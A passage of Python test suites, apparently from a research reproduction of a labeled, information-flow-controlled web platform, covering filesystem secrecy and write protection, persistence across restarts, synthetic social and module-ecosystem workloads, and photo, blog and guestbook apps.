    board.editor("w5-weekly").endorse("core-0")
    board.editor("w5-weekly").endorse("core-1")
    adoption = {m: eco.adoption_counts.get(m, 0) for m in eco.modules}
    adoption["core-0"] = 40  # endorsed modules got adopted
    adoption["core-1"] = 35
    blended = TrustScorer().score(dg, eco.usage_counts, board=board,
                                  adoption_counts=adoption)
    print(f"   blended top-{k}: "
          f"{top_k(blended, k, restrict_to=candidates)}")

    spam_hits = [m for m in top_k(rankers['personalized CodeRank'], k,
                                  restrict_to=candidates)
                 if m in eco.spam_clique]
    print(f"\nOK: spam modules in the personalized top-{k}: "
          f"{spam_hits or 'none'}")


if __name__ == "__main__":
    main()
