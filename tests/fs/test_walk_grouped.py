"""Grouped walk vs naive walk: identical traversal, identical audit.

The grouped engine batches one read verdict per distinct child label
pair and prunes unreadable subtrees without re-deriving violations;
everything a caller (or auditor) can observe must match the naive
one-check-per-node traversal.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.fs import LabeledFileSystem
from repro.kernel import Kernel
from repro.labels import CapabilitySet, Label, minus, plus


def build_fs(grouped, tree_ops):
    """Deterministically grow a labeled tree from the op list."""
    kernel = Kernel(namespace=f"walk-{grouped}")
    fs = LabeledFileSystem(kernel, grouped_walk=grouped)
    root = kernel.spawn_trusted("root")
    t1 = kernel.create_tag(root, purpose="s1")
    t2 = kernel.create_tag(root, purpose="s2")
    labels = (Label.EMPTY, Label([t1]), Label([t2]), Label([t1, t2]))
    # a writer that can read everything and write down anywhere
    builder = kernel.spawn_trusted(
        "builder", slabel=Label([t1, t2]),
        caps=CapabilitySet([minus(t1), minus(t2)]))
    viewers = [
        kernel.spawn_trusted("clean"),
        kernel.spawn_trusted("taint1", slabel=Label([t1])),
        kernel.spawn_trusted("both", slabel=Label([t1, t2])),
        kernel.spawn_trusted("owner2",
                             caps=CapabilitySet([plus(t2), minus(t2)])),
    ]
    dirs = ["/"]
    for kind, parent_i, name_i, label_i in tree_ops:
        parent = dirs[parent_i % len(dirs)]
        path = f"{parent.rstrip('/')}/{kind}{name_i}"
        label = labels[label_i % len(labels)]
        try:
            if kind == "d":
                fs.mkdir(builder, path, slabel=label)
                dirs.append(path)
            else:
                fs.create(builder, path, f"data-{name_i}", slabel=label)
        except Exception:
            pass  # duplicate path etc. — same on both sides
    return kernel, fs, viewers


def tree_ops():
    return st.lists(
        st.tuples(st.sampled_from(["d", "f"]), st.integers(0, 5),
                  st.integers(0, 6), st.integers(0, 3)),
        max_size=30)


class TestGroupedWalkIsEquivalent:
    @settings(max_examples=60, deadline=None)
    @given(tree_ops())
    def test_identical_walks_identical_audit(self, ops):
        kg, fsg, viewers_g = build_fs(True, ops)
        kn, fsn, viewers_n = build_fs(False, ops)
        for vg, vn in zip(viewers_g, viewers_n):
            walked_g = [(p, n.name, n.slabel, n.ilabel)
                        for p, n in fsg.walk(vg)]
            walked_n = [(p, n.name, n.slabel, n.ilabel)
                        for p, n in fsn.walk(vn)]
            assert walked_g == walked_n, f"walk diverges for {vg.name}"
        audit_g = [(e.category, e.allowed, e.subject, e.detail)
                   for e in kg.audit]
        audit_n = [(e.category, e.allowed, e.subject, e.detail)
                   for e in kn.audit]
        assert audit_g == audit_n


class TestWalkPruning:
    def test_unreadable_subtree_pruned_with_one_refusal(self):
        kernel = Kernel()
        fs = LabeledFileSystem(kernel)
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        tainted = kernel.spawn_trusted("tainted", slabel=Label([t]))
        clean = kernel.spawn_trusted("clean")
        fs.mkdir(root, "/pub")
        fs.mkdir(root, "/secret", slabel=Label([t]))
        for i in range(5):
            fs.create(tainted, f"/secret/f{i}", i)
        paths = [p for p, _ in fs.walk(clean)]
        assert paths == ["/", "/pub"]
        # one refusal for the directory, none for its children
        refusals = [e for e in kernel.audit
                    if not e.allowed and "refused" in e.detail]
        assert len(refusals) == 1
        assert fs.stats()["subtrees_pruned"] == 1
        assert fs.stats()["label_batches"] >= 1

    def test_stats_flag_reports_engine(self):
        kernel = Kernel()
        assert LabeledFileSystem(kernel).stats()["grouped_walk"] is True
        assert LabeledFileSystem(
            kernel, grouped_walk=False).stats()["grouped_walk"] is False
