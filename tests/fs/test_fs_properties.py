"""Property tests: filesystem invariants under random operations.

Random processes with random capabilities perform random create/read/
write/delete sequences.  After the dust settles:

* no read ever returned data whose secrecy exceeded the reader's reach;
* no object labeled with a write tag was modified by a process that
  never held the tag's '+' capability;
* label metadata on surviving objects never changed (labels are
  immutable at creation).
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.fs import LabeledFileSystem
from repro.kernel import Kernel
from repro.labels import (CapabilitySet, Label, LabelError, minus, plus)


def build_world():
    kernel = Kernel()
    provider = kernel.spawn_trusted("provider")
    t = kernel.create_tag(provider, purpose="secret")
    w = kernel.create_tag(provider, purpose="write", kind="integrity")
    fs = LabeledFileSystem(kernel)
    procs = [
        ("clean", kernel.spawn_trusted("clean")),
        ("tainted", kernel.spawn_trusted("tainted", slabel=Label([t]))),
        ("writer", kernel.spawn_trusted(
            "writer", caps=CapabilitySet([plus(w)]))),
        ("owner", kernel.spawn_trusted(
            "owner", slabel=Label([t]),
            caps=CapabilitySet.owning(t, w))),
    ]
    return kernel, fs, t, w, dict(procs)


ops = st.lists(
    st.tuples(
        st.sampled_from(["create", "read", "write", "delete"]),
        st.sampled_from(["clean", "tainted", "writer", "owner"]),
        st.integers(0, 5),          # file slot
        st.booleans(),              # secret label?
        st.booleans()),             # write-protected?
    max_size=30)


class TestFsRandomOps:
    @settings(max_examples=60, deadline=None)
    @given(ops)
    def test_invariants_hold(self, operations):
        kernel, fs, t, w, procs = build_world()
        observed_reads = []   # (proc name, data)
        for op, who, slot, secret, protected in operations:
            proc = procs[who]
            path = f"/f{slot}"
            try:
                if op == "create":
                    fs.create(proc, path,
                              {"made_by": who, "secret": secret},
                              slabel=Label([t]) if secret else Label.EMPTY,
                              ilabel=Label([w]) if protected
                              else Label.EMPTY)
                elif op == "read":
                    observed_reads.append((who, fs.read(proc, path)))
                elif op == "write":
                    fs.write(proc, path, {"overwritten_by": who})
                elif op == "delete":
                    fs.delete(proc, path)
            except (LabelError, Exception):
                continue

        # invariant 1: secrecy — 'clean' and 'writer' (no t caps) must
        # never have observed data created under the secret label
        for who, data in observed_reads:
            if isinstance(data, dict) and data.get("secret"):
                assert who in ("tainted", "owner"), (
                    f"{who} read secret data {data}")

        # invariant 2: write protection — a protected file can only
        # have been overwritten by 'writer' or 'owner' (who hold w+)
        for slot in range(6):
            path = f"/f{slot}"
            if not fs.exists(procs["owner"], path):
                continue
            stat = fs.stat(procs["owner"], path)
            if w in stat["ilabel"]:
                data = fs.read(procs["owner"], path)
                if isinstance(data, dict) and "overwritten_by" in data:
                    assert data["overwritten_by"] in ("writer", "owner")

    @settings(max_examples=40, deadline=None)
    @given(ops)
    def test_labels_immutable_after_creation(self, operations):
        kernel, fs, t, w, procs = build_world()
        created_labels = {}
        for op, who, slot, secret, protected in operations:
            proc = procs[who]
            path = f"/f{slot}"
            try:
                if op == "create":
                    node = fs.create(
                        proc, path, "x",
                        slabel=Label([t]) if secret else Label.EMPTY,
                        ilabel=Label([w]) if protected else Label.EMPTY)
                    created_labels[path] = (node.slabel, node.ilabel)
                elif op == "write":
                    fs.write(proc, path, "y")
                elif op == "delete":
                    fs.delete(proc, path)
                    created_labels.pop(path, None)
            except Exception:
                continue
        for path, (slabel, ilabel) in created_labels.items():
            if fs.exists(procs["owner"], path):
                stat = fs.stat(procs["owner"], path)
                assert stat["slabel"] == slabel
                assert stat["ilabel"] == ilabel
