"""Tests for filesystem + registry persistence (provider restart)."""

import json

import pytest

from repro.fs import LabeledFileSystem, restore_fs, snapshot_fs
from repro.kernel import Kernel
from repro.labels import (CapabilitySet, Label, SecrecyViolation,
                          TagRegistry, minus, plus)


def build_world():
    kernel = Kernel(namespace="prod")
    provider = kernel.spawn_trusted("provider")
    t = kernel.create_tag(provider, purpose="bob-data", tag_owner="bob")
    w = kernel.create_tag(provider, purpose="bob-write",
                          kind="integrity", tag_owner="bob")
    fs = LabeledFileSystem(kernel)
    fs.mkdir(provider, "/users")
    agent = kernel.spawn_trusted("bob-agent", slabel=Label([t]),
                                 caps=CapabilitySet.owning(t, w))
    fs.mkdir(agent, "/users/bob", slabel=Label([t]), ilabel=Label([w]))
    fs.create(agent, "/users/bob/diary.txt", "day one",
              slabel=Label([t]), ilabel=Label([w]))
    fs.create(provider, "/motd", "welcome")
    return kernel, fs, t, w


def restart(kernel, fs):
    """Snapshot, serialize through JSON, rebuild in a new kernel."""
    registry_state = json.loads(json.dumps(kernel.tags.export_state()))
    fs_state = json.loads(json.dumps(snapshot_fs(fs)))
    new_kernel = Kernel(namespace="prod")
    new_kernel.tags = TagRegistry.import_state(registry_state)
    return new_kernel, restore_fs(new_kernel, fs_state)


class TestRegistryPersistence:
    def test_roundtrip_preserves_tags(self):
        kernel, fs, t, w = build_world()
        state = kernel.tags.export_state()
        restored = TagRegistry.import_state(state)
        assert restored.lookup(t.tag_id) == t
        assert restored.lookup(t.tag_id).owner == "bob"
        assert restored.lookup(w.tag_id).kind == "integrity"

    def test_counter_continues_past_old_ids(self):
        kernel, fs, t, w = build_world()
        restored = TagRegistry.import_state(kernel.tags.export_state())
        fresh = restored.create(purpose="new")
        assert fresh.tag_id > w.tag_id

    def test_foreign_map_roundtrips(self):
        reg = TagRegistry(namespace="A")
        imported = reg.import_foreign("B", 42, purpose="remote")
        restored = TagRegistry.import_state(reg.export_state())
        again = restored.import_foreign("B", 42)
        assert again == imported


class TestFsPersistence:
    def test_data_roundtrips(self):
        kernel, fs, t, w = build_world()
        new_kernel, new_fs = restart(kernel, fs)
        reader = new_kernel.spawn_trusted("r", slabel=Label(
            [new_kernel.tags.lookup(t.tag_id)]))
        assert new_fs.read(reader, "/users/bob/diary.txt") == "day one"
        anon = new_kernel.spawn_trusted("anon")
        assert new_fs.read(anon, "/motd") == "welcome"

    def test_labels_still_enforced_after_restart(self):
        kernel, fs, t, w = build_world()
        new_kernel, new_fs = restart(kernel, fs)
        snoop = new_kernel.spawn_trusted("snoop")
        with pytest.raises(SecrecyViolation):
            new_fs.read(snoop, "/users/bob/diary.txt")

    def test_write_protection_survives_restart(self):
        from repro.labels import IntegrityViolation
        kernel, fs, t, w = build_world()
        new_kernel, new_fs = restart(kernel, fs)
        new_t = new_kernel.tags.lookup(t.tag_id)
        vandal = new_kernel.spawn_trusted("vandal", slabel=Label([new_t]))
        with pytest.raises(IntegrityViolation):
            new_fs.write(vandal, "/users/bob/diary.txt", "DEFACED")

    def test_decisions_identical_before_and_after(self):
        """Access matrix equality: for a grid of principals, every
        (principal, path, op) decision matches across the restart."""
        kernel, fs, t, w = build_world()
        new_kernel, new_fs = restart(kernel, fs)

        def decisions(k, f):
            tag = k.tags.lookup(t.tag_id)
            wtag = k.tags.lookup(w.tag_id)
            principals = {
                "anon": k.spawn_trusted("anon"),
                "reader": k.spawn_trusted("reader", slabel=Label([tag])),
                "editor": k.spawn_trusted(
                    "editor", slabel=Label([tag]),
                    caps=CapabilitySet([plus(wtag)])),
            }
            grid = {}
            for name, proc in principals.items():
                for path in ("/motd", "/users/bob/diary.txt"):
                    for op in ("read", "write"):
                        try:
                            if op == "read":
                                f.read(proc, path)
                            else:
                                f.write(proc, path, "x")
                            grid[(name, path, op)] = True
                        except Exception:
                            grid[(name, path, op)] = False
            return grid

        assert decisions(kernel, fs) == decisions(new_kernel, new_fs)

    def test_version_and_metadata_roundtrip(self):
        kernel, fs, t, w = build_world()
        provider = kernel.spawn_trusted("p2")
        fs.write(provider, "/motd", "v2")
        new_kernel, new_fs = restart(kernel, fs)
        anon = new_kernel.spawn_trusted("anon")
        st = new_fs.stat(anon, "/motd")
        assert st["version"] == 2
        assert st["created_by"] == "provider"
