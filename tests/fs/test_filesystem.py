"""Unit tests for the labeled filesystem."""

import pytest

from repro.fs import (FsError, FsView, IsADirectory, LabeledFileSystem,
                      NoSuchPath, NotADirectory, PathExists, split_path)
from repro.kernel import Kernel
from repro.labels import (CapabilitySet, IntegrityViolation, Label,
                          SecrecyViolation, minus, plus)


@pytest.fixture()
def kernel():
    return Kernel()


@pytest.fixture()
def fs(kernel):
    return LabeledFileSystem(kernel)


@pytest.fixture()
def provider(kernel):
    return kernel.spawn_trusted("provider")


class TestPathHandling:
    def test_split_path(self):
        assert split_path("/a/b/c") == ["a", "b", "c"]
        assert split_path("a/b/") == ["a", "b"]
        assert split_path("/") == []

    def test_relative_components_rejected(self):
        with pytest.raises(FsError):
            split_path("/a/../b")


class TestBasicOps:
    def test_create_read_roundtrip(self, fs, provider):
        fs.create(provider, "/hello.txt", "world")
        assert fs.read(provider, "/hello.txt") == "world"

    def test_nested_dirs(self, fs, provider):
        fs.mkdir(provider, "/users")
        fs.mkdir(provider, "/users/bob")
        fs.create(provider, "/users/bob/photo.jpg", b"jpeg")
        assert fs.read(provider, "/users/bob/photo.jpg") == b"jpeg"
        assert fs.listdir(provider, "/users") == ["bob"]

    def test_write_bumps_version(self, fs, provider):
        fs.create(provider, "/f", "v1")
        fs.write(provider, "/f", "v2")
        assert fs.read(provider, "/f") == "v2"
        assert fs.stat(provider, "/f")["version"] == 2

    def test_missing_path(self, fs, provider):
        with pytest.raises(NoSuchPath):
            fs.read(provider, "/nope")

    def test_create_duplicate(self, fs, provider):
        fs.create(provider, "/f", 1)
        with pytest.raises(PathExists):
            fs.create(provider, "/f", 2)

    def test_read_directory_fails(self, fs, provider):
        fs.mkdir(provider, "/d")
        with pytest.raises(IsADirectory):
            fs.read(provider, "/d")

    def test_file_as_directory_fails(self, fs, provider):
        fs.create(provider, "/f", 1)
        with pytest.raises(NotADirectory):
            fs.create(provider, "/f/child", 2)

    def test_delete_file(self, fs, provider):
        fs.create(provider, "/f", 1)
        fs.delete(provider, "/f")
        assert not fs.exists(provider, "/f")

    def test_delete_nonempty_dir_fails(self, fs, provider):
        fs.mkdir(provider, "/d")
        fs.create(provider, "/d/f", 1)
        with pytest.raises(FsError):
            fs.delete(provider, "/d")

    def test_stat_fields(self, fs, provider):
        fs.create(provider, "/f", "abc")
        st = fs.stat(provider, "/f")
        assert st["size"] == 3 and not st["is_dir"]
        assert st["created_by"] == "provider"


class TestSecrecyEnforcement:
    def test_secret_file_unreadable_by_clean_process(self, fs, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        fs.create(provider, "/secret", "bobs-data", slabel=Label([t]))
        reader = kernel.spawn_trusted("reader")
        with pytest.raises(SecrecyViolation):
            fs.read(reader, "/secret")

    def test_tainted_process_reads_secret(self, fs, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        fs.create(provider, "/secret", "bobs-data", slabel=Label([t]))
        reader = kernel.spawn_trusted("reader", slabel=Label([t]))
        assert fs.read(reader, "/secret") == "bobs-data"

    def test_no_write_down(self, fs, kernel, provider):
        """A tainted process cannot copy secrets into a public file."""
        t = kernel.create_tag(provider, purpose="bob")
        fs.create(provider, "/public", "harmless")
        tainted = kernel.spawn_trusted("app", slabel=Label([t]))
        with pytest.raises(SecrecyViolation):
            fs.write(tainted, "/public", "stolen-secret")

    def test_tainted_process_writes_up(self, fs, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        fs.create(provider, "/bob-notes", "", slabel=Label([t]))
        tainted = kernel.spawn_trusted("app", slabel=Label([t]))
        fs.write(tainted, "/bob-notes", "processed")
        reader = kernel.spawn_trusted("r", slabel=Label([t]))
        assert fs.read(reader, "/bob-notes") == "processed"

    def test_create_cannot_launder_at_birth(self, fs, kernel, provider):
        """A tainted process may not create a clean file."""
        t = kernel.create_tag(provider, purpose="bob")
        tainted = kernel.spawn_trusted("app", slabel=Label([t]))
        with pytest.raises(SecrecyViolation):
            fs.create(tainted, "/leak", "secret", slabel=Label.EMPTY)

    def test_secret_directory_hides_entries(self, fs, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        fs.mkdir(provider, "/bob", slabel=Label([t]))
        clean = kernel.spawn_trusted("snoop")
        with pytest.raises(SecrecyViolation):
            fs.listdir(clean, "/bob")
        # resolution through the secret dir also fails
        assert not fs.exists(clean, "/bob/anything")

    def test_denials_are_audited(self, fs, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        fs.create(provider, "/secret", "x", slabel=Label([t]))
        snoop = kernel.spawn_trusted("snoop")
        with pytest.raises(SecrecyViolation):
            fs.read(snoop, "/secret")
        assert kernel.audit.count(category="file_read", allowed=False) == 1


class TestWriteProtection:
    """W5 §3.1: user data is write-protected by default; write privilege
    is delegated via the owner's write tag (integrity)."""

    def _setup_protected_file(self, fs, kernel, provider):
        w = kernel.create_tag(provider, purpose="bob-write", kind="integrity")
        owner = kernel.spawn_trusted("bob-agent", ilabel=Label([w]),
                                     caps=CapabilitySet.owning(w))
        fs.create(owner, "/bob-photo", b"original", ilabel=Label([w]))
        return w, owner

    def test_unprivileged_app_cannot_overwrite(self, fs, kernel, provider):
        w, __ = self._setup_protected_file(fs, kernel, provider)
        vandal = kernel.spawn_trusted("vandal")
        with pytest.raises(IntegrityViolation):
            fs.write(vandal, "/bob-photo", b"defaced")
        assert fs.read(provider, "/bob-photo") == b"original"

    def test_unprivileged_app_cannot_delete(self, fs, kernel, provider):
        w, __ = self._setup_protected_file(fs, kernel, provider)
        vandal = kernel.spawn_trusted("vandal")
        with pytest.raises(IntegrityViolation):
            fs.delete(vandal, "/bob-photo")

    def test_delegated_writer_can_write(self, fs, kernel, provider):
        w, owner = self._setup_protected_file(fs, kernel, provider)
        editor = kernel.spawn_trusted("editor", caps=CapabilitySet([plus(w)]))
        fs.write(editor, "/bob-photo", b"cropped")
        assert fs.read(provider, "/bob-photo") == b"cropped"

    def test_everyone_can_still_read(self, fs, kernel, provider):
        self._setup_protected_file(fs, kernel, provider)
        reader = kernel.spawn_trusted("reader")
        assert fs.read(reader, "/bob-photo") == b"original"


class TestWalk:
    def test_walk_skips_unreadable_subtrees(self, fs, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        fs.mkdir(provider, "/pub")
        fs.create(provider, "/pub/a", 1)
        fs.mkdir(provider, "/priv", slabel=Label([t]))
        priv_writer = kernel.spawn_trusted("w", slabel=Label([t]))
        fs.create(priv_writer, "/priv/b", 2)
        snoop = kernel.spawn_trusted("snoop")
        paths = [p for p, __ in fs.walk(snoop)]
        assert "/pub/a" in paths
        assert all("/priv" not in p for p in paths)

    def test_walk_sees_everything_for_cleared(self, fs, kernel, provider):
        t = kernel.create_tag(provider, purpose="bob")
        fs.mkdir(provider, "/priv", slabel=Label([t]))
        cleared = kernel.spawn_trusted("c", slabel=Label([t]))
        fs.create(cleared, "/priv/b", 2)
        paths = [p for p, __ in fs.walk(cleared)]
        assert "/priv/b" in paths


class TestFsView:
    def test_view_curries_process(self, fs, kernel, provider):
        view = FsView(fs, provider)
        view.mkdir("/d")
        view.create("/d/f", "x")
        assert view.read("/d/f") == "x"
        assert view.listdir("/d") == ["f"]
        assert view.exists("/d/f")
        view.write("/d/f", "y")
        assert view.stat("/d/f")["version"] == 2
        view.delete("/d/f")
        assert not view.exists("/d/f")

    def test_view_enforces_labels(self, fs, kernel, provider):
        t = kernel.create_tag(provider, purpose="s")
        fs.create(provider, "/s", "secret", slabel=Label([t]))
        snoop_view = FsView(fs, kernel.spawn_trusted("snoop"))
        with pytest.raises(SecrecyViolation):
            snoop_view.read("/s")
