"""Unit tests for the request-trace generator."""

import pytest

from repro.workloads import Request, make_trace, trace_stats
from repro.workloads.traces import BLOG, FEED, KINDS, PHOTOS, PROFILE


class TestRequest:
    def test_paths_per_kind(self):
        assert Request("v", PROFILE, "t").path_and_params() == \
            ("/app/social/profile", {"user": "t"})
        assert Request("v", PHOTOS, "t").path_and_params()[1] == \
            {"owner": "t"}
        assert Request("v", BLOG, "t").path_and_params()[1] == \
            {"author": "t"}
        assert Request("v", FEED, "t").path_and_params() == \
            ("/app/social/feed", {})

    def test_unknown_kind(self):
        with pytest.raises(ValueError):
            Request("v", "teleport", "t").path_and_params()


class TestMakeTrace:
    USERS = [f"u{i}" for i in range(10)]

    def test_length(self):
        assert len(make_trace(self.USERS, 50)) == 50

    def test_empty_users(self):
        assert make_trace([], 50) == []

    def test_deterministic(self):
        assert make_trace(self.USERS, 30, seed=4) == \
            make_trace(self.USERS, 30, seed=4)

    def test_different_seeds_differ(self):
        assert make_trace(self.USERS, 30, seed=4) != \
            make_trace(self.USERS, 30, seed=5)

    def test_kinds_respect_weights(self):
        trace = make_trace(self.USERS, 400, kind_weights=(1, 0, 0, 0))
        assert all(r.kind == PROFILE for r in trace)

    def test_bad_weights_rejected(self):
        with pytest.raises(ValueError):
            make_trace(self.USERS, 10, kind_weights=(1, 2))

    def test_zipf_skew_concentrates_targets(self):
        trace = make_trace(self.USERS, 2000, target_skew=1.8)
        counts = {}
        for r in trace:
            counts[r.target] = counts.get(r.target, 0) + 1
        ranked = sorted(counts.values(), reverse=True)
        assert ranked[0] > 4 * ranked[-1]


class TestTraceStats:
    def test_empty(self):
        assert trace_stats([])["length"] == 0

    def test_fields(self):
        trace = make_trace([f"u{i}" for i in range(5)], 100, seed=1)
        stats = trace_stats(trace)
        assert stats["length"] == 100
        assert 1 <= stats["unique_viewers"] <= 5
        assert 0.0 <= stats["self_traffic"] <= 1.0
