"""Unit tests for the synthetic module ecosystem."""

from repro.workloads import make_module_ecosystem


class TestModuleEcosystem:
    def test_ground_truth_sets(self):
        eco = make_module_ecosystem(n_core=5, n_spam=4)
        assert len(eco.planted_core) == 5
        assert len(eco.spam_clique) == 4
        assert eco.planted_core.isdisjoint(eco.spam_clique)

    def test_deterministic(self):
        a = make_module_ecosystem(seed=1)
        b = make_module_ecosystem(seed=1)
        assert set(a.edges()) == set(b.edges())
        assert a.usage_counts == b.usage_counts

    def test_core_widely_imported(self):
        eco = make_module_ecosystem(n_apps=50)
        in_degrees = dict(eco.graph.in_degree())
        core_avg = sum(in_degrees[m] for m in eco.planted_core) / \
            len(eco.planted_core)
        filler = [m for m in eco.modules if m.startswith("filler-")]
        filler_avg = sum(in_degrees[m] for m in filler) / len(filler)
        assert core_avg > filler_avg * 2

    def test_spam_has_inflated_usage(self):
        eco = make_module_ecosystem()
        spam_avg = sum(eco.usage_counts[m] for m in eco.spam_clique) / \
            len(eco.spam_clique)
        filler = [m for m in eco.usage_counts if m.startswith("filler-")]
        filler_avg = sum(eco.usage_counts[m] for m in filler) / len(filler)
        assert spam_avg > filler_avg

    def test_spam_clique_is_dense(self):
        eco = make_module_ecosystem(n_spam=5)
        for s in eco.spam_clique:
            succ = set(eco.graph.successors(s))
            assert eco.spam_clique - {s} <= succ

    def test_modules_listing_sorted(self):
        eco = make_module_ecosystem()
        assert eco.modules == sorted(eco.modules)
