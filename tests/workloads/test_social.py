"""Unit tests for synthetic social worlds."""

import pytest

from repro.workloads import (BARABASI_ALBERT, COMPLETE, WATTS_STROGATZ,
                             make_social_world, username, zipf_choices)


class TestSocialWorld:
    def test_population_size(self):
        w = make_social_world(n_users=15)
        assert len(w.users) == 15
        assert len(w.friends) == 15

    def test_deterministic_by_seed(self):
        a = make_social_world(seed=3)
        b = make_social_world(seed=3)
        assert a.users == b.users
        assert a.friends == b.friends
        assert a.photos == b.photos

    def test_different_seeds_differ(self):
        a = make_social_world(seed=3, n_users=30)
        b = make_social_world(seed=4, n_users=30)
        assert a.friends != b.friends or a.profiles != b.profiles

    def test_friendship_symmetric(self):
        w = make_social_world(n_users=25)
        for u, fs in w.friends.items():
            for f in fs:
                assert w.are_friends(f, u)

    def test_are_friends_and_friend_list(self):
        w = make_social_world(n_users=10)
        u = w.users[0]
        for f in w.friend_list(u):
            assert w.are_friends(u, f)

    def test_content_counts(self):
        w = make_social_world(n_users=5, photos_per_user=4, posts_per_user=3)
        assert all(len(w.photos[u]) == 4 for u in w.users)
        assert all(len(w.posts[u]) == 3 for u in w.users)
        assert w.total_items() == 5 * 7

    def test_profiles_have_fields(self):
        w = make_social_world(n_users=3)
        for u in w.users:
            assert {"music", "food", "romance"} <= set(w.profiles[u])

    @pytest.mark.parametrize("model", [WATTS_STROGATZ, BARABASI_ALBERT,
                                       COMPLETE])
    def test_all_models_build(self, model):
        w = make_social_world(n_users=12, model=model)
        assert len(w.users) == 12

    def test_complete_graph_all_friends(self):
        w = make_social_world(n_users=6, model=COMPLETE)
        for u in w.users:
            assert len(w.friends[u]) == 5

    def test_unknown_model_rejected(self):
        with pytest.raises(ValueError):
            make_social_world(model="smallworld-deluxe")

    def test_tiny_populations(self):
        for n in (0, 1, 2):
            w = make_social_world(n_users=n)
            assert len(w.users) == n

    def test_usernames_unique(self):
        w = make_social_world(n_users=100)
        assert len(set(w.users)) == 100


class TestZipf:
    def test_draw_count(self):
        assert len(zipf_choices(list("abcde"), 100)) == 100

    def test_empty_items(self):
        assert zipf_choices([], 10) == []

    def test_skew_favors_head(self):
        draws = zipf_choices(list(range(50)), 5000, skew=1.5, seed=2)
        head = sum(1 for d in draws if d < 5)
        tail = sum(1 for d in draws if d >= 45)
        assert head > tail * 3

    def test_deterministic(self):
        assert zipf_choices([1, 2, 3], 20, seed=9) == \
            zipf_choices([1, 2, 3], 20, seed=9)
