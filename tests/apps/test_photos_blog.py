"""Tests for the photo-sharing and blogging applications."""


class TestPhotoShare:
    def test_upload_and_list(self, provider, bob):
        bob.get("/app/photo-share/upload", filename="a.jpg", data="<jpegA>")
        bob.get("/app/photo-share/upload", filename="b.jpg", data="<jpegB>")
        r = bob.get("/app/photo-share/list")
        assert r.body["photos"] == ["a.jpg", "b.jpg"]

    def test_view_own_photo(self, provider, bob):
        bob.get("/app/photo-share/upload", filename="a.jpg", data="<jpegA>")
        r = bob.get("/app/photo-share/view", filename="a.jpg")
        assert r.body["data"] == "<jpegA>"

    def test_friend_views_photo_via_declassifier(self, provider, bob, amy):
        bob.get("/app/photo-share/upload", filename="a.jpg", data="<jpegA>")
        r = amy.get("/app/photo-share/view", owner="bob", filename="a.jpg")
        assert r.ok and r.body["data"] == "<jpegA>"

    def test_stranger_blocked_at_perimeter(self, provider, bob, eve):
        """eve enabled nothing relevant and is not bob's friend: even
        though the social fabric exists, the perimeter refuses."""
        bob.get("/app/photo-share/upload", filename="a.jpg",
                data="<BOBS-PRIVATE-JPEG>")
        r = eve.get("/app/photo-share/view", owner="bob", filename="a.jpg")
        assert r.status in (403, 500)
        assert not eve.ever_received("<BOBS-PRIVATE-JPEG>")

    def test_crop_uses_preferred_module(self, provider, bob):
        bob.get("/app/photo-share/upload", filename="a.jpg", data="RAW")
        bob.post("/policy/prefer", params={"slot": "cropper",
                                           "module": "crop-smart"})
        bob.get("/app/photo-share/crop", filename="a.jpg",
                width=64, height=64)
        r = bob.get("/app/photo-share/view", filename="a.jpg")
        assert r.body["data"] == "cropped[64x64,smart]:RAW"

    def test_default_crop_module(self, provider, bob):
        bob.get("/app/photo-share/upload", filename="a.jpg", data="RAW")
        bob.get("/app/photo-share/crop", filename="a.jpg",
                width=32, height=32)
        r = bob.get("/app/photo-share/view", filename="a.jpg")
        assert "center" in r.body["data"]

    def test_module_usage_recorded(self, provider, bob):
        bob.get("/app/photo-share/upload", filename="a.jpg", data="RAW")
        bob.get("/app/photo-share/crop", filename="a.jpg")
        assert ("photo-share", "crop-basic") in provider.usage_edges

    def test_anonymous_rejected(self, provider):
        from repro.net import ExternalClient
        anon = ExternalClient("nobody", provider.transport())
        r = anon.get("/app/photo-share/list")
        assert r.body.get("error") == "log in first"


class TestBlog:
    def test_post_and_read(self, provider, bob):
        bob.get("/app/blog/post", title="hello", body="first post")
        r = bob.get("/app/blog/read", title="hello")
        assert r.body["body"] == "first post"

    def test_list_titles(self, provider, bob):
        bob.get("/app/blog/post", title="one", body="x")
        bob.get("/app/blog/post", title="two", body="y")
        r = bob.get("/app/blog/list")
        assert sorted(r.body["titles"]) == ["one", "two"]

    def test_friend_reads_blog(self, provider, bob, amy):
        bob.get("/app/blog/post", title="hello", body="for friends")
        r = amy.get("/app/blog/read", author="bob", title="hello")
        assert r.ok and r.body["body"] == "for friends"

    def test_stranger_cannot_read_blog(self, provider, bob, eve):
        bob.get("/app/blog/post", title="hello", body="BOBS-SECRET-POST")
        r = eve.get("/app/blog/read", author="bob", title="hello")
        assert r.status in (403, 500)
        assert not eve.ever_received("BOBS-SECRET-POST")

    def test_edit_own_post(self, provider, bob):
        bob.get("/app/blog/post", title="hello", body="v1")
        bob.get("/app/blog/edit", title="hello", body="v2")
        assert bob.get("/app/blog/read", title="hello").body["body"] == "v2"

    def test_missing_post(self, provider, bob):
        r = bob.get("/app/blog/read", title="ghost")
        assert r.body["error"] == "no such post"

    def test_cross_app_data_sharing(self, provider, bob):
        """Figure 2: the recommender (a different app by a different
        developer) computes over blog rows the blog app created."""
        bob.get("/app/blog/post", title="shared", body="z")
        bob.get("/app/social/befriend", friend="bob")
        r = bob.get("/app/recommender/digest")
        assert r.ok
