"""Tests for the guestbook app (multi-owner pages)."""


class TestGuestbook:
    def _enable_all(self, provider, *usernames):
        for u in usernames:
            provider.enable_app(u, "guestbook")

    def test_sign_and_view_own_wall(self, provider, bob, amy):
        self._enable_all(provider, "bob", "amy")
        amy.get("/app/guestbook/sign", wall="bob", text="hi bob!")
        r = bob.get("/app/guestbook/view", wall="bob")
        assert r.ok
        assert {"author": "amy", "text": "hi bob!"} in r.body["entries"]

    def test_comment_is_the_authors_data(self, provider, bob, amy):
        """The comment row carries amy's labels: bob sees it because
        amy's declassifier approves bob (they are friends)."""
        self._enable_all(provider, "bob", "amy")
        amy.get("/app/guestbook/sign", wall="bob", text="amy-was-here")
        r = bob.get("/app/guestbook/view", wall="bob")
